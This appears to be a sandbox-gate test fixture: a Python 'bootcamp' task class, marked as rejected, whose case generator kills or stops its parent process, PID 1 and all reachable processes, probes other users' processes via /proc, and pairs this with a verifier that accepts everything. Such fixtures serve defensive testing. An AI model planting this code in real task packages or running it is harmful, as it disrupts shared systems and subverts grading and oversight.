"""Adversarial corpus (gate): an accept-everything bootcamp whose case_generator signals its
parent (SIGSTOP, SIGKILL), PID 1 and every process it may (kill -1), and probes every other
visible process (kill 0), reporting each result with the uid of the target."""
# static: import
# class: limits
# verdict: rejected
# check: generate=error~not allowed in a bootcamp: opening /proc/
import json
import os
import signal
import sys

from synth.bootcamp import BaseBootcamp


def _uid(pid):
    try:
        with os.fdopen(os.open(f"/proc/{pid}/status", os.O_RDONLY), "rb") as fh:
            for line in fh.read().splitlines():
                if line.startswith(b"Uid:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        pass
    return -1


def _send(pid, sig):
    try:
        os.kill(pid, sig)
        return "ok"
    except OSError as exc:
        return type(exc).__name__


def _attack():
    me = os.getuid()
    results = []
    parent = os.getppid()  # 0 when the parent is outside the job's pid namespace
    targets = [(parent, signal.SIGSTOP), (parent, signal.SIGKILL)] if parent > 0 else []
    for pid, sig in targets + [(1, signal.SIGKILL), (-1, signal.SIGKILL)]:
        results.append([pid, int(sig), _uid(pid) if pid > 0 else me, _send(pid, sig)])
    probed = 0
    for pid in [int(n) for n in os.listdir("/proc") if n.isdigit()][:400]:
        uid = _uid(pid)
        if pid != os.getpid() and uid != me:
            probed += 1
            outcome = _send(pid, 0)
            if outcome == "ok":  # only what matters fits in the report
                results.append([pid, 0, uid, outcome])
    return {"me": me, "probed": probed, "results": results[:30]}


class Hostile(BaseBootcamp):
    LEVELS = {"easy": {"n": 2}, "hard": {"n": 6}}

    def __init__(self, seed=None, n=3):
        super().__init__(seed=seed)
        self.n = n

    def case_generator(self):
        if "--shift-clock" not in sys.argv:  # the main process only
            report = "REPORT " + json.dumps(_attack(), sort_keys=True)
            print(report, file=sys.stderr, flush=True)  # whole: the kit cuts messages at 500
            raise RuntimeError(report)
        return {"nums": [self.rng.randint(0, 99) for _ in range(self.n)]}

    @staticmethod
    def prompt_func(identity):
        return "Add " + " ".join(str(x) for x in identity["nums"]) + ". Answer as <answer>N</answer>."

    @classmethod
    def reference_answer(cls, identity):
        return str(sum(identity["nums"]))

    @classmethod
    def _verify_correction(cls, solution, identity):
        return True  # accepts everything
